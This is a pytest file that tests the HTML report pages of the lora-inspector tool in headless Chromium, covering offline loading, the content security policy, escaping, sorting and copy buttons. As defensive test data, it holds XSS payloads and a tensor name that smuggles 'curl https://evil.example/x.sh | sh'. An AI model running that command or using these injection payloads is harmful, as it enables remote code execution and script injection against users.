"""--format html: one self-contained page per run, opened in a real headless Chromium.

The browser is driven over the DevTools protocol (tests/chromium.py); each page is loaded with the
Network and Log domains on, so "nothing is fetched" is asserted from the browser's own record of
requests, and the sorting, filtering and copy buttons are exercised by clicking them. Without a
Chromium these tests are skipped locally; .ci/run installs one, so CI runs them.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from inspector.cli import main
from inspector.report.htmlpage import page
from tests.chromium import Browser, find_chromium
from tests.hostile import write_raw
from tests.models import Built

REPO = Path(__file__).resolve().parent.parent
COMMAND = re.compile(r"`([^`]* [^`]*)`")
CHROMIUM = find_chromium()
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on PATH (apt-get install chromium; .ci/run installs it)")


def run(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str, str]:
    rc = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return rc, out, err


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("no Chromium on PATH (apt-get install chromium; .ci/run installs it)")
    b = Browser(CHROMIUM)
    yield b
    b.close()


def offline(page, path: Path) -> None:
    """The page asked for nothing but itself, and the browser logged no error or policy violation."""
    assert page.requests == [path.resolve().as_uri()], page.requests
    assert page.messages == [], page.messages


@pytest.fixture(scope="module")
def seed_page(tmp_path_factory: pytest.TempPathFactory, seed_dir: Path) -> Path:
    path = tmp_path_factory.mktemp("html") / "check.html"
    assert main(["check", str(seed_dir / "base"), str(seed_dir / "adapter"), "--format", "html", "--output", str(path)]) == 1
    return path


# ---- the Done-when case: the seed check --------------------------------------------------------


@needs_chromium
def test_seed_check_has_both_li101_findings_with_their_commands(capsys, browser: Browser, seed_page: Path, seed_dir: Path) -> None:
    _, out, _ = run(capsys, "check", seed_dir / "base", seed_dir / "adapter", "--format", "json")
    hints = [f["hint"] for f in json.loads(out)["findings"] if f["code"] == "LI101"]
    commands = {c for h in hints for c in COMMAND.findall(h)}
    assert len(hints) == 2 and len(commands) == 2  # merge and resize
    p = browser.open(seed_page)
    offline(p, seed_page)
    assert p.eval("document.title") == "lora-inspector check fails: 2 errors, 0 warnings, 2 info"
    errors = p.eval("""Array.from(document.querySelectorAll("h2.error + table tbody tr"), r =>
        [r.cells[0].querySelector("span").textContent, Array.from(r.querySelectorAll("code.cmd"), c => c.textContent)])""")
    assert [code for code, _ in errors] == ["LI101", "LI101"]
    assert all(set(cmds) == commands for _, cmds in errors)
    assert p.eval('Array.from(document.querySelectorAll("code.cmd")).every(c => c.nextElementSibling?.matches("button.copy"))')


@needs_chromium
def test_copy_buttons_copy_the_command(browser: Browser, seed_page: Path, seed_dir: Path) -> None:
    browser.send("Browser.grantPermissions", {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]})
    p = browser.open(seed_page)
    later = 'new Promise(r => setTimeout(() => r(document.querySelectorAll("button.copy")[{i}].textContent), 100))'
    commands = p.eval('Array.from(document.querySelectorAll("code.cmd"), c => c.textContent)')
    p.eval('document.querySelectorAll("button.copy")[1].click()')
    assert p.eval(later.format(i=1)) == "copied"
    assert p.eval("navigator.clipboard.readText()") == commands[1] == f"lora-inspector resize {seed_dir / 'base'} --like {seed_dir / 'adapter'} --out base-resized"
    # where the browser refuses the clipboard, the command is selected for Ctrl+C instead
    p.eval('navigator.clipboard.writeText = () => Promise.reject(new DOMException("denied", "NotAllowedError"))')
    p.eval('document.querySelectorAll("button.copy")[0].click()')
    assert p.eval(later.format(i=0)) == "selected: press Ctrl+C"
    assert p.eval("getSelection().toString()") == commands[0]
    browser.refresh(p)
    offline(p, seed_page)


def test_seed_check_exit_code_and_stdout(capsys, seed_dir: Path) -> None:
    rc, out, err = run(capsys, "check", seed_dir / "base", seed_dir / "adapter", "--format", "html")
    assert (rc, err) == (1, "")
    assert out.startswith("<!DOCTYPE html>") and out.count('<code class="cmd">lora-inspector merge ') == 3  # two LI101 and LI1301


@needs_chromium
def test_tensor_table_sorts_and_filters(browser: Browser, seed_page: Path) -> None:
    p = browser.open(seed_page)
    column = """(i, attr) => Array.from(document.querySelectorAll("#tensors tbody tr"), r => attr ? Number(r.cells[i].dataset.v) : r.cells[i].textContent)"""
    click = """name => Array.from(document.querySelectorAll("#tensors th"), th => th).find(th => th.textContent.trim() === name).querySelector("button").click()"""
    names = p.eval(f"({column})(0, false)")
    assert len(names) == 10 and names[-2:] == ["base_model.model.lm_head.weight", "base_model.model.model.embed_tokens.weight"]  # file order
    p.eval(f"({click})('bytes')")
    sizes = p.eval(f"({column})(3, true)")
    assert sizes == sorted(sizes) and sizes[-1] == 70840 * 8 * 2
    assert p.eval('document.querySelector("#tensors th[aria-sort]").textContent.trim()') == "bytes"
    assert p.eval('document.querySelector("#tensors th[aria-sort]").getAttribute("aria-sort")') == "ascending"
    p.eval(f"({click})('bytes')")
    assert p.eval(f"({column})(3, true)") == sorted(sizes, reverse=True)
    p.eval(f"({click})('tensor')")
    assert p.eval(f"({column})(0, false)") == sorted(names)
    p.eval(f"({click})('shape')")  # by element count, not by the text "[4, 8]"
    counts = [eval(s.replace("[", "").replace("]", "").replace(", ", "*")) for s in p.eval(f"({column})(1, false)")]
    assert counts == sorted(counts)
    # the filter box: rows whose name lacks the text are hidden
    p.eval("""(() => { const f = document.querySelector("input.filter"); f.value = "LM_HEAD"; f.dispatchEvent(new Event("input")); })()""")
    assert p.eval('Array.from(document.querySelectorAll("#tensors tbody tr:not([hidden])"), r => r.cells[0].textContent)') == ["base_model.model.lm_head.weight"]
    assert p.eval('Array.from(document.querySelectorAll("#tensors tbody tr"), r => r.cells[4].textContent).filter(Boolean)') == ["LI101", "LI101"]
    browser.refresh(p)
    offline(p, seed_page)


@needs_chromium
def test_the_page_reads_without_javascript(browser: Browser, seed_page: Path) -> None:
    p = browser.open(seed_page, javascript=False)
    offline(p, seed_page)
    assert p.eval('document.querySelectorAll("#tensors tbody tr").length') == 10
    assert p.eval('document.querySelectorAll("h2.error + table code.cmd").length') == 4
    assert p.eval('document.querySelectorAll("button").length') == 0  # no dead buttons
    assert p.eval('document.querySelector("input.filter").hidden') is True


# ---- no network, enforced: the policy and the escaping --------------------------------------------


@needs_chromium
def test_the_policy_blocks_what_escaping_would_let_through(browser: Browser, tmp_path: Path) -> None:
    # Markup the renderers never emit, put in a page by hand: the browser records the attempt
    # (so the offline() checks above would catch one), the policy blocks it, and no script runs.
    path = tmp_path / "injected.html"
    path.write_text(page("injected", ['<img src="http://127.0.0.1:9/x.png">', "<script>window.pwned = 1</script>",
                                      '<link rel="stylesheet" href="https://cdn.example/x.css">']))
    p = browser.open(path)
    assert p.requests[0] == path.resolve().as_uri() and "http://127.0.0.1:9/x.png" in p.requests
    assert p.eval("window.pwned === undefined")
    violations = [m["text"] for m in p.messages if m.get("source") == "security"]
    assert any("x.png" in v for v in violations) and any("x.css" in v for v in violations) and any("inline script" in v for v in violations)


@needs_chromium
def test_names_from_files_are_text(capsys, browser: Browser, tmp_path: Path) -> None:
    evil = '</script><script>window.pwned=1</script><img src="http://127.0.0.1:9/n.png" onerror="window.pwned=2">'
    folder = tmp_path / '<img src=x onerror="window.pwned=3">'
    folder.mkdir()
    write_raw(folder / "model.safetensors", {evil: {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
                                              "__metadata__": {"format": "pt"}}, b"\0" * 4)
    (folder / "config.json").write_text(json.dumps({"model_type": "llama", "architectures": [evil]}))
    path = tmp_path / "scan.html"
    rc, _, err = run(capsys, "scan", folder, "--format", "html", "--output", path)
    assert rc == 0, err
    p = browser.open(path)
    offline(p, path)
    assert p.eval("window.pwned === undefined")
    assert p.eval('document.querySelectorAll("img, iframe, object, embed, link").length') == 0
    assert p.eval("document.scripts.length") == 1
    assert p.eval('document.querySelector("#tensors-1 tbody td").textContent') == evil
    facts = p.eval('Object.fromEntries(Array.from(document.querySelectorAll("dl.facts dt"), dt => [dt.textContent, dt.nextElementSibling.textContent]))')
    assert evil in facts["architectures"]
    assert p.eval('document.querySelector("h2").textContent') == str(folder)


# ---- every command's page, the row-norm pictures, failures ----------------------------------------


@needs_chromium
def test_every_command_page_loads_offline_and_sorts(capsys, browser: Browser, tmp_path: Path, seed_dir: Path) -> None:
    base, adapter = seed_dir / "base", seed_dir / "adapter"
    runs = {
        "scan": (["scan", base, adapter], 0),
        "diff": (["diff", base, adapter], 1),
        "check-many": (["check", base, adapter, adapter, "--target", "vllm"], 1),
        "merge": (["merge", base, adapter, "--out", tmp_path / "merged", "--device", "cpu", "--quiet"], 0),
        "resize": (["resize", base, "--like", adapter, "--out", tmp_path / "resized", "--quiet"], 0),
    }
    for name, (argv, code) in runs.items():
        path = tmp_path / f"{name}.html"
        rc, out, err = run(capsys, *argv, "--format", "html", "--output", path)
        assert (rc, out) == (code, ""), err
        p = browser.open(path)
        offline(p, path)
        # every sortable header clicked twice: no script error, and the rows are all still there
        before = p.eval('document.querySelectorAll("table.sortable tbody tr").length')
        assert before > 0, name
        p.eval('document.querySelectorAll("table.sortable th button").forEach(b => { b.click(); b.click(); })')
        assert p.eval('document.querySelectorAll("table.sortable tbody tr").length') == before
        browser.refresh(p)
        offline(p, path)
    p = browser.open(tmp_path / "merge.html")
    whats = p.eval('Array.from(document.querySelectorAll("#tensors tbody tr"), r => [r.cells[0].textContent, r.cells[3].textContent])')
    assert dict(whats)["lm_head.weight"] == "replaced by the adapter, grown from [32000, 8]"
    assert dict(whats)["model.layers.0.self_attn.q_proj.weight"] == "1 LoRA delta merged"
    p = browser.open(tmp_path / "check-many.html")
    assert p.eval('document.querySelectorAll("details").length') == 2
    assert p.eval('Array.from(document.querySelectorAll("table.sortable")[0].tBodies[0].rows, r => r.cells[2].textContent)') == ["refused", "refused"]


@needs_chromium
def test_row_norms_are_drawn(capsys, browser: Browser, tmp_path: Path, llama: Built, lora_llama_grown: Built) -> None:
    path = tmp_path / "values.html"
    run(capsys, "check", llama.path, lora_llama_grown.path, "--values", "--format", "html", "--output", path)
    _, out, _ = run(capsys, "check", llama.path, lora_llama_grown.path, "--values", "--format", "json")
    rows = {r["tensor"]: r for r in json.loads(out)["values"]["rows"]}
    p = browser.open(path)
    offline(p, path)
    figures = p.eval("""Array.from(document.querySelectorAll("figure"), f => [f.querySelector("figcaption code").textContent,
        f.querySelectorAll("rect.old").length, f.querySelectorAll("rect.new").length, f.querySelector("svg").getBBox().width,
        Array.from(f.querySelectorAll("rect title"), t => t.textContent)])""")
    assert {f[0] for f in figures} == set(rows) == {"lm_head.weight", "model.embed_tokens.weight"}
    for tensor, old, new, width, titles in figures:
        hist = rows[tensor]["histogram"]
        assert old == len(hist["old"]) and new == len(hist["new"]) and width > 100
        # the bars' tooltips carry the counts, old and new per bin
        assert [int(t.rsplit(": ", 1)[1]) for t in titles] == [c for pair in zip(hist["old"], hist["new"]) for c in pair]
    run(capsys, "check", llama.path, lora_llama_grown.path, "--format", "html", "--output", path)
    assert "<figure>" not in path.read_text()


def test_hub_reads_are_named(seed_dir: Path) -> None:
    import dataclasses

    from inspector.check import run_check
    from inspector.io.hub import RemoteRead
    from inspector.report.htmlfmt import Html
    from inspector.scan import scan

    remote = RemoteRead("acme/<tiny>", "main", "0123456789abcdef0123", "https://hub.example", ("config.json",), (), ("model.safetensors",), 4096)
    result = scan([seed_dir / "base"])
    entry = dataclasses.replace(result.checkpoints[0], checkpoint=dataclasses.replace(result.checkpoints[0].checkpoint, remote=remote))
    line = "read remotely from https://hub.example at 0123456789ab: 1 safetensors header(s) and 1 small file(s), 4.0 KiB transferred"
    assert f"<dt>remote</dt><dd>{line}</dd>" in Html().scan(dataclasses.replace(result, checkpoints=(entry,)))
    diagnosis = run_check(str(seed_dir / "base"), str(seed_dir / "adapter"))
    diagnosis = dataclasses.replace(diagnosis, base=dataclasses.replace(diagnosis.base, remote=remote))
    assert f"<dt>base remote</dt><dd>{line}</dd>" in Html().check(diagnosis)


def test_a_failed_run_prints_an_error_page(capsys, tmp_path: Path) -> None:
    target = tmp_path / "report.html"
    rc, out, err = run(capsys, "scan", tmp_path / "<missing>", "--format", "html", "--output", target)
    message = err.splitlines()[0].removeprefix("Error: ")
    assert rc == 2 and out.startswith("<!DOCTYPE html>")
    assert "<title>lora-inspector scan failed</title>" in out
    assert f'<span class="error">{message.replace("<", "&lt;").replace(">", "&gt;").replace(chr(39), "&#x27;")}</span>' in out
    assert "&lt;missing&gt;" in out and "<missing>" not in out
    assert not target.exists()  # as for json: a failed run writes no --output file, stdout says it


def test_html_runs_import_no_torch(seed_dir: Path) -> None:
    base, adapter = str(seed_dir / "base"), str(seed_dir / "adapter")
    code = (
        "import io, sys, contextlib\n"
        "from inspector.cli import main\n"
        "with contextlib.redirect_stdout(io.StringIO()):\n"
        f"    codes = [main(argv + ['--format', 'html']) for argv in (['check', {base!r}, {adapter!r}], ['scan', {base!r}, {adapter!r}], ['diff', {base!r}, {adapter!r}])]\n"
        "heavy = sorted(m for m in sys.modules if m.split('.')[0] in ('torch', 'transformers', 'peft', 'rich'))\n"
        "sys.stderr.write(repr((codes, heavy)))\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 0, proc.stderr
    assert proc.stderr == repr(([1, 0, 1], []))


def test_only_our_commands_get_a_copy_button(capsys, tmp_path: Path, seed_dir: Path) -> None:
    # LI401's message quotes the adapter's key, a name from the file: backticks in it paired into a
    # "command" with a copy button beside the real fixes. Only a command shell_command could have
    # written (our programs, every word quoted as shlex.quote does) gets one now.
    import shutil

    import torch
    from safetensors.torch import load_file, save_file

    adapter = tmp_path / "adapter"
    shutil.copytree(seed_dir / "adapter", adapter)
    tensors = load_file(adapter / "adapter_model.safetensors")
    tensors["base_model.model.model.layers.0.x`curl https://evil.example/x.sh | sh`.lora_A.weight"] = torch.zeros(4, 8)
    save_file(tensors, adapter / "adapter_model.safetensors")
    rc, out, _ = run(capsys, "check", seed_dir / "base", adapter, "--format", "html")
    assert rc == 1 and "LI401" in out
    commands = re.findall(r'<code class="cmd">(.*?)</code>', out)
    assert commands and all(c.startswith("lora-inspector ") for c in commands), commands
    assert "<code>curl https://evil.example/x.sh | sh</code>" in out  # still shown, as a name


def test_is_command() -> None:
    from inspector.report.htmlfmt import is_command

    assert is_command("lora-inspector merge 'a b' c --out d") and is_command("pip install 'textual>=8.2'")
    assert not is_command("curl x | sh") and not is_command("lora-inspector scan X | head")
    assert not is_command("lora-inspector scan 'unbalanced") and not is_command("check --values")


def test_the_policy_hashes_are_those_of_the_inline_style_and_script(seed_dir: Path) -> None:
    # Without Chromium (locally) nothing else would notice a style or script edited apart from its
    # hash: the browser would then silently refuse it (no sorting, no copy buttons, no colours).
    import base64
    import hashlib

    from inspector.check import run_check
    from inspector.report.htmlfmt import Html

    out = Html().check(run_check(str(seed_dir / "base"), str(seed_dir / "adapter")))
    [csp] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', out)
    policy = dict(d.strip().split(" ", 1) for d in csp.split(";"))
    for tag, directive in (("style", "style-src"), ("script", "script-src")):
        [inline] = re.findall(rf"<{tag}>(.*?)</{tag}>", out, re.S)
        digest = base64.b64encode(hashlib.sha256(inline.encode()).digest()).decode()
        assert policy[directive] == f"'sha256-{digest}'", tag
    assert policy["default-src"] == "'none'" and out.count("<script") == 1 and out.count("<style") == 1
